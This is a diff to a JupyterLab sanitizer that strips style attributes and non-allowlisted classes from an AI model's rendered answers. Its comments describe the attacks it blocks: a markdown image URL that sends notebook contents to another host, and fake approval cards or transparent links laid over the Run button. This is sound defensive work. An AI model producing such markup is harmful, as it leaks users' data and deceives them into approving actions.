@@ -3,6 +3,8 @@
 
 import type { IRenderMime } from '@jupyterlab/rendermime';
 
+import { isAllowedClass } from '../notebook/safeMarkdown';
+
 /**
  * A sanitizer for the model's answers that loads nothing: it runs JupyterLab's sanitizer, then
  * takes out of the HTML everything the browser would fetch by itself once the HTML is in the page
@@ -10,6 +12,10 @@ import type { IRenderMime } from '@jupyterlab/rendermime';
  * answer cannot send what it read from the notebook to another host (`![x](https://host/?q=…)`).
  *
  * A remote image becomes a link to it, which the person may follow; images in `data:` URIs stay.
+ * Nor can an answer place itself over the rest of the sidebar (a fake approval card, a transparent
+ * link over the Run button): `style` attributes go and classes are kept only from the allowlist
+ * of the markdown renderer and code highlighting (`isAllowedClass`), so no answer borrows a
+ * JupyterLab class such as `jp-HoverBox` (`position: fixed`).
  * The HTML is rewritten in an inert document (DOMParser's: no scripts, no fetches) and only the
  * result is handed to the renderer, so the page never holds an element with a remote source.
  */
@@ -88,6 +94,7 @@ export function removeRemoteResources(html: string): string {
         element.removeAttribute(attribute.name);
       }
     }
+    Private.keepAllowedClasses(element);
   }
   return body.innerHTML;
 }
@@ -120,7 +127,8 @@ namespace Private {
 
   /**
    * Attributes whose value the browser fetches, or that send requests (`ping`), or that hold
-   * CSS (which can fetch with `url()`, `image-set()` or `@import`).
+   * CSS (which can fetch with `url()`, `image-set()` or `@import`, and place the element anywhere
+   * on the page with `position`, offsets and `z-index`: all of `style` goes).
    */
   const FETCHING_ATTRIBUTES = new Set([
     'src',
@@ -155,12 +163,28 @@ namespace Private {
       // SVG's <image href> and <use href> fetch; only in-document references are harmless there.
       return !CLICK_ONLY_HREF.has(element.localName) && !attribute.value.trim().startsWith('#');
     }
-    if (name === 'style') {
-      // Declarations without a URL are kept (colours, alignment); any escape could spell one.
-      return /url\s*\(|image-set|image\s*\(|@import|\\/i.test(attribute.value);
-    }
     return FETCHING_ATTRIBUTES.has(name) || name.endsWith(':href');
   }
+
+  /**
+   * Take away the classes an answer may not have; the attribute goes when none is left.
+   */
+  export function keepAllowedClasses(element: Element): void {
+    if (!element.hasAttribute('class')) {
+      return;
+    }
+    const kept = Array.from(element.classList).filter(name => isAllowedClass(name) || name === REMOTE_RESOURCE);
+    if (kept.length) {
+      element.setAttribute('class', kept.join(' '));
+    } else {
+      element.removeAttribute('class');
+    }
+  }
+
+  /**
+   * The class of the links that stand for a remote resource.
+   */
+  const REMOTE_RESOURCE = 'jp-CodeInterpreter-remoteResource';
 
   /**
    * Keep an image whose source is in the HTML itself; turn any other into a link to it.
@@ -191,7 +215,7 @@ namespace Private {
     const link = element.ownerDocument.createElement('a');
     link.setAttribute('href', url);
     link.setAttribute('title', url);
-    link.className = 'jp-CodeInterpreter-remoteResource';
+    link.className = REMOTE_RESOURCE;
     link.textContent = element.getAttribute('alt') || element.getAttribute('title') || url;
     element.replaceWith(link);
   }
